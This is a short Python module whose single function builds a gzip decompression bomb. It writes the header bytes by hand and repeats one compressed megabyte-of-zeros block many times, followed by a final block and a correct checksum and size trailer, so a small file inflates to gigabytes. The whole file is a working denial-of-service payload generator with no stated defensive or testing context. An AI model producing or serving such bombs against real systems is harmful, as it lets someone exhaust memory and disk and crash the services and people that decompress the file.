"""A gzip bomb that is quickly made: the block of one megabyte of zeros, again and again."""

import struct
import zlib
from functools import cache
from typing import Final

MEGABYTE: Final = 1 << 20
HEAD: Final = bytes.fromhex(
    "1f8b 08 00 00000000 02 ff"
)  # deflated, no flags, no time, best compression, unknown system
END: Final = bytes.fromhex("0300")  # an empty last block [RFC 1951 3.2.6]


@cache
def gzip_bomb(megabytes: int) -> bytes:
    """Return so many megabytes of zeros [RFC 1952], compressed to about a kilobyte each."""
    zeros = bytes(MEGABYTE)
    press = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = press.compress(zeros) + press.flush(zlib.Z_FULL_FLUSH)  # refers to nothing before it
    checksum = 0
    for _ in range(megabytes):
        checksum = zlib.crc32(zeros, checksum)
    return HEAD + block * megabytes + END + struct.pack("<II", checksum, megabytes * MEGABYTE)
